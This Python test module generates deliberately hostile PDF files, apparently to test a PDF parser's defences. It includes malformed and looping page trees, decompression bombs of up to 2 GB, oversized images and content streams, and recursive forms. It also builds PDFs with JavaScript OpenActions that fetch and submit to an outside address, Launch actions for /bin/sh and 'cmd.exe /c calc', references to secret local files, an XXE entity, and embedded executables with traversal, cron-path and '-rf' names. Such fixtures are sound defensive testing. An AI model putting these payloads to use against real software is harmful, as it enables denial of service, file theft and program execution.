"""PDFs made to hurt: broken structures, streams that swell, actions that reach outside."""

import io
import zlib
from collections.abc import Iterator, Sequence

from tests.hostile_parts import PDF, TEXT, Made, Outside, zeros


def pdf_of(objects: Sequence[bytes], trailer: bytes = b"", start: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer <</Size %d/Root 1 0 R%b>>\n" % (len(objects) + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % (table if start is None else start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F1 11 Tf 50 700 Td (%b) Tj ET" % TEXT.encode()


def _page(entries: bytes = b"/MediaBox[0 0 595 842]", contents: bytes = b"4 0 R") -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R%b/Contents %b/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"
        b">>>>" % (entries, contents)
    )


def _one_page(
    page: bytes = b"",
    content: bytes = b"",
    catalogue: bytes = _CATALOGUE,
    more: Sequence[bytes] = (),
) -> bytes:
    return pdf_of([catalogue, _PAGES, page or _page(), content or stream(_WORDS), _FONT, *more])


def pdf_structures() -> Iterator[Made]:
    """Trees and tables that loop, are too deep, or lie about their size."""
    yield "boom-in-zichzelf.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield "boom-naar-wortel.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[1 0 R 2 0 R]/Count 9>>"])
    for depth in (100, 3000):
        nodes = [
            b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1)
            for n in range(2, depth)
        ]
        yield f"boom-{depth}-diep.pdf", pdf_of([_CATALOGUE, *nodes, _page()])
    for count in (-1, 0, 2**31 - 1, 10**12):
        yield (
            f"aantal-{count}.pdf",
            pdf_of([_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count, _page()]),
        )
    kids = b" ".join([b"3 0 R"] * 20_000)
    yield (
        "twintigduizend-keer-dezelfde.pdf",
        pdf_of(
            [
                _CATALOGUE,
                b"<</Type/Pages/Kids[%b]/Count 20000>>" % kids,
                _page(),
                stream(b""),
                _FONT,
            ]
        ),
    )
    for name, wrong in (
        ("kind-is-tekst", b"(a)"),
        ("kind-is-getal", b"[7]"),
        ("kind-weg", b"[99 0 R]"),
    ):
        yield f"{name}.pdf", pdf_of([_CATALOGUE, b"<</Type/Pages/Kids %b/Count 1>>" % wrong])
    for box in (b"0 0 10000000 10000000", b"0 0 0 0", b"900 900 0 0", b"1e99 0 1e99 9", b"a b c d"):
        name = box.decode().replace(" ", "_")
        yield f"blad-{name}.pdf", _one_page(_page(b"/MediaBox[%b]" % box))
    yield "gedraaid-45.pdf", _one_page(_page(b"/MediaBox[0 0 595 842]/Rotate 45"))
    yield "eenheid-miljoen.pdf", _one_page(_page(b"/MediaBox[0 0 595 842]/UserUnit 1000000"))
    whole = _one_page()
    for name, start in (("nul", 0), ("buiten", 10**9), ("midden", 40)):
        yield f"tabel-{name}.pdf", pdf_of([_CATALOGUE, _PAGES, _page()], start=start)
    table = whole.rindex(b"xref\n0")
    yield (
        "tabel-loopt-rond.pdf",
        pdf_of([_CATALOGUE, _PAGES, _page(), stream(_WORDS), _FONT], b"/Prev %d" % table),
    )
    yield "tabel-van-een-miljard.pdf", whole.replace(b"xref\n0 6", b"xref\n0 999999999")
    yield "vakken-100000-diep.pdf", pdf_of([_CATALOGUE, _PAGES, b"[" * 100_000, stream(b"")])
    yield "lijsten-100000-diep.pdf", pdf_of([b"<</A" * 100_000, _PAGES])
    yield (
        "bladwijzers-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
            more=[b"<</First 6 0 R/Next 6 0 R/Last 6 0 R/Title(a)>>"],
        ),
    )
    yield (
        "namen-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R>>>>",
            more=[b"<</Kids[6 0 R 6 0 R]>>"],
        ),
    )
    yield (
        "velden-rond.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]>>>>",
            more=[b"<</T(a)/Kids[6 0 R]/Parent 6 0 R>>"],
        ),
    )
    yield "inhoud-is-zichzelf.pdf", _one_page(_page(contents=b"[3 0 R 4 0 R 3 0 R]"))
    yield (
        "lengte-verwijst-naar-zichzelf.pdf",
        _one_page(content=b"<</Length 4 0 R>>\nstream\n%b\nendstream" % _WORDS),
    )
    yield "nietige-sleutel.pdf", _one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 5 0 R")
    yield from _encrypted()


def _encrypted() -> Iterator[Made]:
    import pypdf

    for algorithm in ("RC4-40", "RC4-128"):
        for user in ("geheim", ""):
            writer = pypdf.PdfWriter(clone_from=PDF)
            writer.encrypt(user, "eigenaar", algorithm=algorithm)
            out = io.BytesIO()
            writer.write(out)
            yield f"slot-{algorithm}-{'dicht' if user else 'open'}.pdf", out.getvalue()


def pdf_streams() -> Iterator[Made]:
    """Streams that grow when they are unpacked, and content that works long for little."""
    flate = b"/Filter/FlateDecode"
    yield "bom-2GB.pdf", _one_page(content=stream(zeros(2_000_000_000), flate))
    twice = zlib.compress(zeros(1_000_000_000), 9)
    yield "bom-dubbel.pdf", _one_page(content=stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    many = b"/Filter[%b]" % (b"/FlateDecode" * 500)
    yield "vijfhonderd-filters.pdf", _one_page(content=stream(zeros(1_000_000), many))
    runs = bytes([129, 0x20]) * 3_000_000
    yield "bom-runlength.pdf", _one_page(content=stream(runs + b"\x80", b"/Filter/RunLengthDecode"))
    wide = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000>>"
    yield "voorspeller.pdf", _one_page(content=stream(zeros(3_000_000), wide))
    for name, content in (
        ("diep-in-q", b"q " * 2_000_000 + _WORDS),
        ("diep-in-tekst", b"BT " * 500_000 + _WORDS),
        ("haken", b"(" * 1_000_000),
        ("lijst", b"[" * 500_000 + b"]" * 500_000 + b" TJ"),
        ("een-miljoen-letters", b"BT /F1 1 Tf " + b"1 0 0 1 5 5 Tm (a) Tj " * 300_000 + b"ET"),
        ("een-miljoen-lijnen", b"0 0 m 9 9 l S " * 500_000 + _WORDS),
        ("groot-lettertype", b"BT /F1 1e30 Tf 0 0 Td (groot) Tj ET " + _WORDS),
        ("onmeetbaar", b"BT /F1 nan Tf 1e400 -1e400 Td (x) Tj ET " + _WORDS),
        ("geen-einde", _WORDS[:-10]),
    ):
        yield f"inhoud-{name}.pdf", _one_page(content=stream(zlib.compress(content), flate))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield (
        "vorm-tekent-zichzelf.pdf",
        _one_page(content=stream(b"/X Do " + _WORDS), more=[stream(b"/X Do /X Do", form)]),
    )
    forms = [
        stream(
            b"/X Do " * 10,
            form.replace(b"6 0 R", b"%d 0 R" % (number + 1)),
        )
        for number in range(6, 18)
    ]
    yield (
        "vormen-tien-tot-de-twaalfde.pdf",
        _one_page(content=stream(b"/X Do " + _WORDS), more=[*forms, stream(b"0 0 m", form)]),
    )
    for name, kind in (
        ("plat", b"/Filter/FlateDecode/ColorSpace/DeviceRGB/BitsPerComponent 8"),
        ("fax", b"/Filter/CCITTFaxDecode/ColorSpace/DeviceGray/BitsPerComponent 1"),
        ("jpeg", b"/Filter/DCTDecode/ColorSpace/DeviceRGB/BitsPerComponent 8"),
        ("jpx", b"/Filter/JPXDecode"),
        ("jbig2", b"/Filter/JBIG2Decode/ColorSpace/DeviceGray/BitsPerComponent 1"),
    ):
        for side in (60_000, 2_000_000_000):
            image = b"/Type/XObject/Subtype/Image/Width %d/Height %d%b" % (side, side, kind)
            yield (
                f"beeld-{name}-{side}.pdf",
                _one_page(
                    content=stream(b"595 0 0 842 0 0 cm /X Do"),
                    more=[stream(zeros(2_000_000), image)],
                ),
            )
    codes = b"1 beginbfrange <0000> <ffffffff> <0041> endbfrange"
    unicode_map = b"begincmap 1 begincodespacerange <00><ff> endcodespacerange " + codes * 1000
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>"
    yield (
        "tekens-zonder-einde.pdf",
        pdf_of([_CATALOGUE, _PAGES, _page(), stream(_WORDS), font, stream(unicode_map)]),
    )


def pdf_actions(outside: Outside) -> Iterator[Made]:
    """Files that want a program started, an address fetched or another file opened."""
    address, file = outside.address.encode(), str(outside.secret).encode()
    actions = {
        "javascript": b"/S/JavaScript/JS(app.launchURL\\('%b'\\);this.submitForm\\('%b'\\))"
        % (address, address),
        "start-programma": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "adres": b"/S/URI/URI(%b/uri)" % address,
        "formulier": b"/S/SubmitForm/F<</FS/URL/F(%b/form)>>" % address,
        "ander-bestand": b"/S/GoToR/F(%b)/D[0/Fit]" % file,
        "invoer": b"/S/ImportData/F(%b)" % file,
    }
    for name, action in actions.items():
        catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%b>>>>" % action
        yield f"{name}.pdf", _one_page(catalogue=catalogue)
        link = b"/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%b>>>>]"
        yield f"{name}-op-blad.pdf", _one_page(_page(link % action))
    for name, external in {"adres": address, "bestand": file}.items():
        content = b"<</Length 0/FFilter/FlateDecode/F(%b)>>\nstream\n\nendstream" % external
        yield f"inhoud-elders-{name}.pdf", _one_page(content=content)
    program = stream(b"MZ\x90\x00" + bytes(5000), b"/Type/EmbeddedFile")
    for title in (b"factuur.exe", b"../../../tmp/ontsnapt.txt", b"/etc/cron.d/x", b"-rf", b""):
        catalogue = (
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(%b)"
            b"/UF(%b)/EF<</F 6 0 R>>>>]>>>>>>" % (title, title)
        )
        yield f"bijlage-{len(title)}.pdf", _one_page(catalogue=catalogue, more=[program])
    form = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.file}">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'
    ).encode()
    yield (
        "xfa.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>",
            more=[stream(form)],
        ),
    )
    yield (
        "xmp.pdf",
        _one_page(
            catalogue=b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>",
            more=[stream(form, b"/Type/Metadata/Subtype/XML")],
        ),
    )
